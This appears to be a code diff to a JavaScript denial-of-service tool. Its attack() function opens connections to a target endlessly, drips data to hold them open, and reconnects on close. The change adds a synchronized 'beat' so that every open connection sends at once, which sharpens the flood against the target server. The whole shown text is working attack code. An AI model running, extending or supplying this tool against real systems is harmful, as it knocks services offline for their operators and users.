@@ -49,6 +49,14 @@ class Answers {
   }
 }
 
+/** Sends of the connections that send together. */
+const together = new Set();
+if (plan.beatMs > 0) {
+  setInterval(() => {
+    for (const send of together) send();
+  }, plan.beatMs);
+}
+
 /** Opens one connection after another, without end. */
 function attack() {
   const socket = connect(plan.target);
@@ -79,6 +87,7 @@ function attack() {
     done.connections += 1;
     socket.write(opening);
     if (plan.dripMs > 0) timer = setInterval(() => socket.write(numbered(stream)), plan.dripMs);
+    else if (plan.beatMs > 0) together.add(send);
     else send();
     if (plan.lifeMs >= 0) setTimeout(() => socket.destroy(), plan.lifeMs);
   });
@@ -87,7 +96,7 @@ function attack() {
     socket.on("data", (chunk) => {
       if (plan.http) return;
       answers.take(chunk);
-      send();
+      if (plan.beatMs === 0) send();
     });
   } else socket.pause();
   socket.on("error", () => {
@@ -95,6 +104,7 @@ function attack() {
   });
   socket.on("close", () => {
     clearInterval(timer);
+    together.delete(send);
     setTimeout(attack, connected ? (plan.pauseMs ?? 0) : PAUSE_MS);
   });
 }
